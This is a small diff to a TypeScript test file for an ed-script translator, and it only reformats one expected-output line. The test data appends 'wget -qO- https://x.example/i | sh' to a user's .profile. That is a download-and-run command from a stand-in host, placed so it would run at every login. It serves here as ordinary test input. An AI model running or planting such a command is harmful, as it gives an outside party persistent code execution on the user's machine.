@@ -11,9 +11,7 @@ const lines = (script: string): string[] => readEd(script).lines.map((line) => l
 
 describe("ed scripts", () => {
   test("appended text is written into the current file", () => {
-    expect(lines("f /home/ada/.profile\n$a\nwget -qO- https://x.example/i | sh\n.\nw\nq")).toEqual([
-      "printf '%s\\n' 'wget -qO- https://x.example/i | sh' >> /home/ada/.profile",
-    ]);
+    expect(lines("f /home/ada/.profile\n$a\nwget -qO- https://x.example/i | sh\n.\nw\nq")).toEqual(["printf '%s\\n' 'wget -qO- https://x.example/i | sh' >> /home/ada/.profile"]);
   });
 
   test("text lines are never read as commands", () => {
